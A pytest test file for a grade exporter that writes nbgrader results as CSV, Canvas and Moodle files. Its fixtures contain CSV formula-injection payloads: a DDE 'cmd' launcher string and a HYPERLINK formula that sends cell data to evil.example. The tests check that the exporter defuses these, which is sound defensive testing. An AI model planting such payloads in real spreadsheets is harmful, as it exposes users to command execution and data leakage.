"""Exported grades: what is graded is written, what is not is listed, and nobody gets a zero by mistake."""

import csv
import functools
import os
import re
import subprocess
import sys
import warnings
from contextlib import contextmanager
from pathlib import Path

import nbgrader.api
import pytest
from nbgrader.apps import ExportApp
from nbgrader.coursedir import CourseDirectory
from nbgrader.plugins import CsvExportPlugin

from attncourse.classroom.exporters import (
    FORMATS,
    CanvasExporter,
    CsvExporter,
    Exported,
    MoodleExporter,
    export,
)
from attncourse.classroom.problem import CourseProblem
from attncourse.classroom.records import Record, write_record
from attncourse.classroom.roster import Student, read_roster
from attncourse.classroom.standings import Standing

ESSAY, HEADS, WEIGHTS = SLUGS = ("masks-essay", "multihead-split-heads", "scores-weights")
POINTS = {ESSAY: 5.0, HEADS: 3.0, WEIGHTS: 7.0}
HOSTILE = "=cmd|'/c calc'!A1 \x1b[2J\r\n is no notebook"
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"1")'

ROSTER = (
    "student_id,last_name,first_name,email,section,canvas_id\n"
    'ann,"Müller, geb. Weiß",Änne,ann@example.org,A,101\n'
    'bob,"O\'Neil","Bo ""Bobby""",bob@example.org,A,102\n'
    "cyd,Ćosić,Cyd,cyd@example.org,B,103\n"
    "dan,-2+3,@SUM(A1),dan@example.org,B,104\n"
    f'eve,"{FORMULA.replace(chr(34), chr(34) * 2)}",＝1,eve@example.org,B,\n'
    "fay,Fay,Fay,fay@example.org,B,106\n"
    "gus,Gus,Gus,gus@example.org,B,107\n"
    "hal,Hal,Hal,hal@example.org,B,108\n"
    "jo,Jo,Jo,jo@example.org,B,109\n"
    "kim,Kim,Kim,kim@example.org,B,110\n"
)

# For each student and exercise: what stands in the gradebook (automatic points, a person's points) and in the
# record (state, score, reason); then the points off for each notebook.
CLASS = {
    "ann": ({ESSAY: (None, 4.5, "manual", None, "waits for you"), HEADS: (3, None, "graded", 3, ""),
             WEIGHTS: (2.5, 6, "graded", 2.5, "")}, 0),
    "bob": ({ESSAY: (None, None, "manual", None, ""), HEADS: (1, None, "graded", 1, ""),
             WEIGHTS: (7, None, "graded", 7, "")}, 0),
    "cyd": ({ESSAY: (None, 2, "manual", None, ""), HEADS: (0, None, "missing", 0, "nothing handed in"),
             WEIGHTS: (1 / 3, None, "graded", 1 / 3, "")}, 0.25),
    "dan": ({ESSAY: (None, 5, "manual", None, ""), HEADS: (3, None, "graded", 3, ""),
             WEIGHTS: (None, None, "unreadable", None, HOSTILE)}, 0),
    "eve": ({ESSAY: (0, None, "manual", None, ""), HEADS: (0, None, "graded", 0, "the kernel died"),
             WEIGHTS: (1, None, "graded", 1, "")}, 2),
    "hal": ({ESSAY: (None, 5, "manual", None, ""), HEADS: (3, None, "graded", 0.5, ""),
             WEIGHTS: (7, None, "graded", 7, "")}, 0),
    "ian": ({ESSAY: (None, 1, "manual", None, ""), HEADS: (2, None, "graded", 2, ""),
             WEIGHTS: (4, None, "graded", 4, "")}, 0),
    "jo": ({ESSAY: (None, 3, "manual", None, ""), HEADS: (0, 2, "unreadable", None, "broken JSON"),
            WEIGHTS: (4, None, "graded", 4, "")}, 0),
    "kim": ({ESSAY: (None, None, "missing", None, ""), HEADS: (0, None, "missing", 0, "nothing handed in"),
             WEIGHTS: (0, None, "missing", 0, "nothing handed in")}, 0),
}  # fmt: skip
TOTALS = {
    "ann": 13.5, "bob": None, "cyd": 1 / 3 + 2 - 0.75, "dan": None, "eve": 0, "fay": 0, "gus": None,
    "hal": None, "jo": 9, "kim": 0, "ian": 7,
}  # fmt: skip
STATES = {
    "ann": "complete", "bob": "waiting for a person", "cyd": "complete", "dan": "not readable",
    "eve": "complete", "fay": "nothing handed in", "gus": "not graded yet", "hal": "not graded yet",
    "jo": "complete", "kim": "nothing handed in", "ian": "complete",
}  # fmt: skip


alembic_version = functools.cache(nbgrader.api.get_alembic_version)  # a process of two seconds


@contextmanager
def opened(folder, **course):
    """The gradebook of a course folder; nbgrader calls alembic by name."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"])
        patch.setattr(nbgrader.api, "get_alembic_version", alembic_version)
        with nbgrader.api.Gradebook(f"sqlite:///{folder / 'gradebook.db'}", **course) as book:
            yield book


def fill(folder, students, assignment="HW1", **course):
    """Write what grading leaves: nbgrader's gradebook and one record for each notebook."""
    with opened(folder, **course) as book:
        book.add_assignment(assignment)
        for slug in SLUGS:
            book.add_notebook(slug, assignment)
            book.add_grade_cell(slug, slug, assignment, max_score=POINTS[slug], cell_type="code")
        for student, (notebooks, penalty) in students.items():
            book.update_or_create_student(
                student, first_name=student, last_name="From the gradebook", email=f"{student}@x.org"
            )
            with warnings.catch_warnings():
                # nbgrader 0.9.6 with SQLAlchemy 2.1: a submission is built before it is in the session.
                warnings.filterwarnings("ignore", "Object of type <Submitted.*> not in session")
                book.add_submission(assignment, student)
            for slug, (auto, manual, state, score, reason) in notebooks.items():
                grade = book.find_grade(slug, slug, assignment, student)
                grade.auto_score, grade.manual_score = auto, manual
                grade.needs_manual_grade = auto is None and manual is None
                grade.notebook.late_submission_penalty = penalty
                book.db.commit()
                record = Record(
                    student, slug, state, POINTS[slug], score, reason=reason, remarks=("looks odd",)
                )
                write_record(folder, assignment, record)
    return folder


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course whose gradebook and records hold one of each case; tests do not change it."""
    folder = tmp_path_factory.mktemp("course")
    (folder / "roster.csv").write_text(ROSTER, encoding="utf-8")
    for student in (*CLASS.keys() - {"kim"}, "gus"):
        (folder / "submitted" / student / "HW1").mkdir(parents=True)
    return fill(folder, CLASS)


@pytest.fixture
def tables(graded, tmp_path):
    """What was written in one format: the lines, and what `export` returned."""

    def written(to, **how):
        out = tmp_path / f"{to}.csv"
        done = export(graded, "HW1", to, out=out, roster=read_roster(graded / "roster.csv"), **how)
        assert done.path == out
        with out.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.reader(file, strict=True)), done

    return written


def by_header(lines):
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def test_the_table_has_every_student_with_points_state_and_reasons(tables):
    lines, done = tables("csv")
    rows = {row["student_id"]: row for row in by_header(lines)}
    assert list(rows) == [*TOTALS]  # class list, then others
    assert lines[0] == [
        *("student_id", "last_name", "first_name", "email", *SLUGS),
        *("late_penalty", "total", "maximum", "state", "reasons"),
    ]
    assert {student: row["state"] for student, row in rows.items()} == STATES
    for student, total in TOTALS.items():
        assert rows[student]["maximum"] == "15"
        if total is None:
            assert rows[student]["total"] == ""
        else:
            assert float(rows[student]["total"]) == pytest.approx(total, abs=5e-5)
    scores = {student: [row[slug] for slug in SLUGS] for student, row in rows.items()}
    assert scores == {
        "ann": ["4.5", "3", "6"],  # the person's 6 counts, not the automatic 2.5
        "bob": ["", "1", "7"],
        "cyd": ["2", "0", "0.3333"],
        "dan": ["5", "3", ""],
        "eve": ["0", "0", "1"],
        "fay": ["0", "0", "0"],
        "gus": ["", "", ""],
        "hal": ["5", "", "7"],  # 3 in the gradebook and 0.5 by the grading: no score
        "jo": ["3", "2", "4"],
        "kim": ["0", "0", "0"],
        "ian": ["1", "2", "4"],
    }
    assert [row["late_penalty"] for row in rows.values()] == ["0", "0", "0.75", "0", "6", *["0"] * 6]
    reasons = {student: row["reasons"] for student, row in rows.items()}
    nothing = "; ".join(f"{slug}: nothing handed in" for slug in SLUGS)
    again = "3 points in the gradebook, 0.5 by the grading; grade it again"
    assert reasons == {
        "ann": "",  # "waits for you" was true when the record was written
        "bob": f"{ESSAY}: waiting for a person",
        "cyd": f"{HEADS}: nothing handed in",
        "dan": f"{WEIGHTS}: =cmd|'/c calc'!A1 [2J is no notebook",
        "eve": f"{HEADS}: the kernel died",
        "fay": nothing,
        "gus": "; ".join(f"{slug}: not graded yet" for slug in SLUGS),
        "hal": f"{HEADS}: {again}",
        "jo": f"{HEADS}: broken JSON",
        "kim": nothing,
        "ian": "",
    }
    assert "looks odd" not in done.path.read_text(encoding="utf-8")
    assert (rows["ann"]["last_name"], rows["ann"]["first_name"]) == ("Müller, geb. Weiß", "Änne")
    assert (rows["bob"]["last_name"], rows["bob"]["first_name"]) == ("O'Neil", 'Bo "Bobby"')
    assert (rows["ian"]["last_name"], rows["ian"]["email"]) == ("From the gradebook", "ian@x.org")
    assert done.path.read_bytes().startswith(b"\xef\xbb\xbfstudent_id,")


def test_no_cell_is_a_formula(tables):
    for to in FORMATS:
        lines, _ = tables(to, column="=HW1")
        for cell in (cell for line in lines for cell in line):
            assert not re.match(r"\s*[=+\-@＝＋－＠]", cell), cell
            assert cell.isprintable()
    lines, _ = tables("csv", overwrite=True)
    rows = {row["student_id"]: row for row in by_header(lines)}
    assert rows["eve"]["last_name"] == f"'{FORMULA}"
    assert rows["eve"]["first_name"] == "'＝1"
    assert (rows["dan"]["last_name"], rows["dan"]["first_name"]) == ("'-2+3", "'@SUM(A1)")


def test_who_has_no_total_is_listed(tables):
    for to in FORMATS:
        _, done = tables(to)
        assert [one.student.student_id for one in done.incomplete] == ["bob", "dan", "gus", "hal"]
        assert [one.student.student_id for one in done.graded] == [
            student for student, total in TOTALS.items() if total is not None
        ]
        assert list(done.messages()) == [
            f"HW1: 7 of 11 totals, out of 15 points, in {done.path}",
            f"no total for bob, waiting for a person: {ESSAY}: waiting for a person",
            f"no total for dan, not readable: {WEIGHTS}: =cmd|'/c calc'!A1 [2J is no notebook",
            "no total for gus, not graded yet: " + "; ".join(f"{slug}: not graded yet" for slug in SLUGS),
            f"no total for hal, not graded yet: {HEADS}: 3 points in the gradebook, 0.5 by the grading; "
            "grade it again",
        ]


def test_canvas_gets_its_columns_and_only_real_grades(tables):
    lines, done = tables("canvas", column="HW1 (12345)")
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "HW1 (12345)"]
    assert lines[1] == ["    Points Possible", "", "", "", "", "15"]
    assert [line[:5] for line in lines[2:]] == [
        ["Müller, geb. Weiß, Änne", "101", "", "ann", "A"],
        ["Ćosić, Cyd", "103", "", "cyd", "B"],
        [f"'{FORMULA}, ＝1", "", "", "eve", "B"],
        ["Fay, Fay", "106", "", "fay", "B"],
        ["Jo, Jo", "109", "", "jo", "B"],
        ["Kim, Kim", "110", "", "kim", "B"],
        ["From the gradebook, ian", "", "", "ian", ""],
    ]
    for line, standing in zip(lines[2:], done.graded, strict=True):
        assert float(line[5]) == pytest.approx(TOTALS[standing.student.student_id], abs=5e-5)
    assert done.path.read_bytes().startswith(b"Student,")
    default, _ = tables("canvas", overwrite=True)
    assert default[0][5] == "HW1"


def test_what_canvas_reads_of_it(tables):
    """The rules of Canvas's importer (lib/gradebook_importer.rb), written down again."""
    lines, _ = tables("canvas", column="HW1 (12345)")
    header, points, *students = lines
    assert "Student" in header[0]
    assert "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2])
    assert re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4]
    assert re.fullmatch(r"(.*)\s\((\d+)\)", header[5]).groups() == ("HW1", "12345")
    assert "Points Possible" in points[0]
    for line in students:
        assert re.fullmatch(r"\d*", line[1])
        assert line[1] or line[3]
        assert re.fullmatch(r"[0-9]+(\.[0-9]{1,4})?", line[5])  # an empty cell would remove a grade
    assert [line.count(";") for line in map(",".join, lines)] == [0] * len(lines)  # else another separator


def test_moodle_gets_ids_grades_and_feedback_without_a_students_text(tables):
    lines, done = tables("moodle")
    assert lines[0] == ["ID number", "Email address", "Last name", "First name", "HW1", "HW1 (feedback)"]
    rows = {row["ID number"]: row for row in by_header(lines)}
    assert list(rows) == [one.student.student_id for one in done.graded]
    for student, row in rows.items():
        assert float(row["HW1"]) == pytest.approx(TOTALS[student], abs=5e-5)
    assert rows["ann"]["Email address"] == "ann@example.org"
    assert {student: row["HW1 (feedback)"] for student, row in rows.items()} == {
        "ann": f"{ESSAY} 4.5; {HEADS} 3; {WEIGHTS} 6",
        "cyd": f"{ESSAY} 2; {HEADS} 0; {WEIGHTS} 0.3333; handed in late -0.75",
        "eve": f"{ESSAY} 0; {HEADS} 0; {WEIGHTS} 1; handed in late -6",
        "fay": "nothing handed in",
        "jo": f"{ESSAY} 3; {HEADS} 2; {WEIGHTS} 4",
        "kim": "nothing handed in",
        "ian": f"{ESSAY} 1; {HEADS} 2; {WEIGHTS} 4",
    }


def test_moodle_gets_no_addresses_if_one_is_missing(graded, tmp_path):
    """A line with an empty address would give its grade to the student of the line before."""
    roster = [Student("ann", email="ann@example.org"), Student("fay")]
    out = tmp_path / "moodle.csv"
    export(graded, "HW1", "moodle", out=out, roster=roster, column="Homework")
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header == "ID number,Last name,First name,Homework,Homework (feedback)"


@pytest.mark.parity
def test_totals_are_those_of_nbgraders_exporter(graded, tables, tmp_path):
    lines, _ = tables("csv")
    ours = {row["student_id"]: row for row in by_header(lines)}
    with opened(graded) as book:
        theirs_path = tmp_path / "theirs.csv"
        CsvExportPlugin(to=str(theirs_path), assignment=["HW1"]).export(book)
    with theirs_path.open(encoding="utf-8", newline="") as file:
        theirs = {row["student_id"]: row for row in csv.DictReader(file)}
    assert theirs.keys() == CLASS.keys()
    compared = [student for student in theirs if ours[student]["total"]]
    assert compared == [student for student in theirs if TOTALS[student] is not None]
    for student in compared:
        for mine, other in {
            "total": "score",
            "late_penalty": "late_submission_penalty",
            "maximum": "max_score",
        }.items():
            assert float(ours[student][mine]) == pytest.approx(float(theirs[student][other]), abs=5e-5)
    # What we leave empty, nbgrader writes as points.
    assert float(theirs["bob"]["score"]) == 8
    assert float(theirs["hal"]["score"]) == 15


def test_the_class_list_is_the_one_that_was_given_or_that_of_the_course(graded, tmp_path):
    given = [Student("kim"), Student("eve"), Student("new")]
    done = export(graded, "HW1", "csv", out=tmp_path / "a.csv", roster=given)
    ids = [one.student.student_id for one in done.standings]
    assert ids == ["kim", "eve", "new", *sorted((CLASS.keys() | {"gus"}) - {"kim", "eve"})]
    done = export(graded, "HW1", "csv", out=tmp_path / "b.csv")
    assert tuple(one.student for one in done.standings)[:10] == read_roster(graded / "roster.csv")


def test_without_a_class_list_the_gradebook_says_who_is_in_the_class(tmp_path):
    course = fill(tmp_path, {student: CLASS[student] for student in ("bob", "ann")})
    with opened(course) as book:
        book.add_student("zoe", last_name="Aa")
    zoe, ann, bob = export(course, "HW1", "csv").standings  # by last name
    gradebook = Student("ann", "ann", "From the gradebook", "ann@x.org")
    scores = {ESSAY: 4.5, HEADS: 3.0, WEIGHTS: 6.0}
    assert ann == Standing(gradebook, scores, 0.0, "complete", ())
    assert (bob.total, zoe.total, zoe.state) == (None, 0, "nothing handed in")


def test_the_default_file_lies_in_the_course_folder_and_is_not_overwritten(tmp_path):
    course = fill(tmp_path, {"ann": CLASS["ann"]})
    done = export(course, "HW1", "moodle")
    assert done == Exported(course / "HW1-moodle.csv", "HW1", 15.0, done.standings)
    done.path.write_text("mine", encoding="utf-8")
    with pytest.raises(CourseProblem, match=r"HW1-moodle\.csv exists and is not overwritten: name another"):
        export(course, "HW1", "moodle")
    assert done.path.read_text(encoding="utf-8") == "mine"
    export(course, "HW1", "moodle", overwrite=True)
    assert done.path.read_text(encoding="utf-8").startswith("ID number,")
    assert {path.name for path in course.iterdir()} == {"gradebook.db", "grading", "HW1-moodle.csv"}


def test_an_export_does_not_change_the_gradebook(tmp_path):
    course = fill(tmp_path, {"ann": CLASS["ann"]}, course_id="attention")  # not nbgrader's default
    before = (course / "gradebook.db").read_bytes()
    for to in FORMATS:
        export(course, "HW1", to)
    assert (course / "gradebook.db").read_bytes() == before


def test_a_notebook_without_record_or_without_entry_has_no_score(tmp_path):
    """A run of `grade` that was stopped leaves the one; a gradebook that was put back leaves the other."""
    course = fill(tmp_path, {"ann": CLASS["ann"]})
    (course / "grading" / "HW1" / "ann" / f"{HEADS}.json").unlink()
    write_record(course, "HW1", Record("zoe", HEADS, "graded", 3.0, 3.0))
    ann, zoe = export(course, "HW1", "csv").standings
    assert ann.scores == {ESSAY: 4.5, HEADS: None, WEIGHTS: 6.0}
    assert (ann.total, ann.state, ann.reasons) == (None, "not graded yet", (f"{HEADS}: not graded yet",))
    assert zoe.scores == dict.fromkeys(SLUGS)
    assert zoe.reasons[1] == f"{HEADS}: not in the gradebook"


def test_a_folder_with_a_strange_name_is_listed(tmp_path):
    course = fill(tmp_path, {"ann": CLASS["ann"]})
    (course / "submitted" / os.fsdecode(b"=z\xff") / "HW1").mkdir(parents=True)
    (course / "submitted" / "early" / "HW0").mkdir(parents=True)
    done = export(course, "HW1", "csv")
    assert done.path.read_text(encoding="utf-8").splitlines()[2].startswith("'=z,")
    assert list(done.messages())[1].startswith("no total for =z, not graded yet: ")
    assert len(done.standings) == 2


def test_an_entry_without_grades_is_no_zero(tmp_path):
    course = fill(tmp_path, {"ann": CLASS["ann"]})
    with opened(course) as book:
        book.db.delete(book.find_grade(ESSAY, ESSAY, "HW1", "ann"))
        book.db.commit()
    (ann,) = export(course, "HW1", "canvas").incomplete
    assert ann.scores == {ESSAY: None, HEADS: 3.0, WEIGHTS: 6.0}
    assert ann.reasons == (f"{ESSAY}: not in the gradebook",)


@pytest.mark.parametrize(
    ("slug", "auto", "manual", "flag"),
    [
        (HEADS, None, None, False),  # the test cell is gone, nobody was told
        (HEADS, 3, None, True),
        (WEIGHTS, 2.5, 6, True),  # handed in again after a person's grade: nbgrader asks for another look
        (ESSAY, None, 4.5, True),
    ],
)
def test_what_waits_for_a_person_has_no_score(tmp_path, slug, auto, manual, flag):
    course = fill(tmp_path, {"ann": CLASS["ann"]})
    with opened(course) as book:
        grade = book.find_grade(slug, slug, "HW1", "ann")
        grade.auto_score, grade.manual_score, grade.needs_manual_grade = auto, manual, flag
        book.db.commit()
    (ann,) = export(course, "HW1", "csv").standings
    assert ann.scores == {ESSAY: 4.5, HEADS: 3.0, WEIGHTS: 6.0} | {slug: None}
    assert (ann.total, ann.state) == (None, "waiting for a person")


def test_an_exercise_in_two_assignments_has_two_scores(tmp_path):
    course = fill(tmp_path, {"ann": CLASS["ann"], "bob": CLASS["bob"]})
    fill(course, {"ann": CLASS["ian"]}, "HW2")
    assert [one.total for one in export(course, "HW1", "csv").standings] == [TOTALS["ann"], None]
    assert [one.total for one in export(course, "HW2", "csv").standings] == [TOTALS["ian"], 0]


def test_what_is_missing_is_said(tmp_path):
    with pytest.raises(
        CourseProblem, match=r"gradebook\.db: there is no gradebook; run `attncourse grade HW1`"
    ):
        export(tmp_path, "HW1", "csv")
    assert not list(tmp_path.iterdir())
    with opened(tmp_path) as book:
        book.add_assignment("HW1")
    with pytest.raises(CourseProblem, match="grades can be exported to csv, canvas, moodle, got 'xlsx'"):
        export(tmp_path, "HW1", "xlsx")
    with pytest.raises(CourseProblem, match=r"the gradebook of .* has no assignment 'HW2'"):
        export(tmp_path, "HW2", "csv")
    with pytest.raises(
        CourseProblem, match=r"HW1 has not been graded in .*: run `attncourse grade HW1` first"
    ):
        export(tmp_path, "HW1", "csv")


# --- through nbgrader -------------------------------------------------------------------------------------


def app(course):
    """What a plug-in needs of nbgrader's program: the course folder."""
    return ExportApp(coursedir=CourseDirectory(root=str(course)))


@pytest.mark.parametrize(
    ("plugin", "to"), [(CsvExporter, "csv"), (CanvasExporter, "canvas"), (MoodleExporter, "moodle")]
)
def test_a_plug_in_writes_what_export_writes(graded, tables, tmp_path, plugin, to):
    lines, done = tables(to)
    theirs = tmp_path / "theirs.csv"
    theirs.write_text("old", encoding="utf-8")
    with opened(graded) as book:
        plugin(parent=app(graded), assignment=["HW1"], to=str(theirs), overwrite=True).export(book)
    assert theirs.read_bytes() == done.path.read_bytes()
    assert len(lines) > 5


def nbgrader_export(folder, *options):
    # nbgrader calls alembic by name: the environment's programs must be on the path.
    script = (
        "import os, sys\n"
        "os.environ['PATH'] = os.path.dirname(sys.executable) + os.pathsep + os.environ['PATH']\n"
        "from nbgrader.apps.nbgraderapp import NbGraderApp\n"
        "sys.exit(NbGraderApp.launch_instance(argv=sys.argv[1:]))\n"
    )
    return subprocess.run(
        [sys.executable, "-c", script, "export", *options],
        cwd=folder, capture_output=True, text=True, timeout=120, check=False,
        env=os.environ | {"PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )  # fmt: skip


def test_nbgrader_export_calls_the_plug_in(tmp_path):
    course = fill(tmp_path, {student: CLASS[student] for student in ("ann", "bob", "cyd")})
    (course / "roster.csv").write_text(ROSTER, encoding="utf-8")
    exporter = "--exporter=attncourse.classroom.exporters.CanvasExporter"
    options = ["--assignment=HW1", "--student=ann", "--student=bob", "--CanvasExporter.column=HW1 (12345)"]
    done = nbgrader_export(course, exporter, *options)
    said = done.stdout + done.stderr
    assert done.returncode == 0, said
    assert "HW1: 1 of 2 totals, out of 15 points" in said
    assert f"no total for bob, waiting for a person: {ESSAY}: waiting for a person" in said
    assert (course / "HW1-canvas.csv").read_text(encoding="utf-8") == (
        "Student,ID,SIS User ID,SIS Login ID,Section,HW1 (12345)\n"
        "    Points Possible,,,,,15\n"
        '"Müller, geb. Weiß, Änne",101,,ann,A,13.5\n'
    )
    again = nbgrader_export(course, exporter, *options)
    assert again.returncode == 1
    assert "exists and is not overwritten" in again.stdout + again.stderr
    assert "Traceback" not in again.stdout + again.stderr


@pytest.mark.parametrize(
    ("traits", "says"),
    [
        ({}, "name one assignment with --assignment, the gradebook has: HW1"),
        ({"assignment": ["HW1", "HW2"]}, "name one assignment with --assignment"),
        ({"assignment": ["HW1"], "student": ["ann", "nobody"]}, "HW1 has no student nobody"),
    ],
)
def test_a_plug_in_says_what_to_mend(graded, tmp_path, caplog, traits, says):
    one = CsvExporter(parent=app(graded), to=str(tmp_path / "x.csv"), **traits)
    one.log.propagate = True
    with opened(graded) as book, pytest.raises(SystemExit, match="1"):
        one.export(book)
    assert says in caplog.text
    assert not (tmp_path / "x.csv").exists()
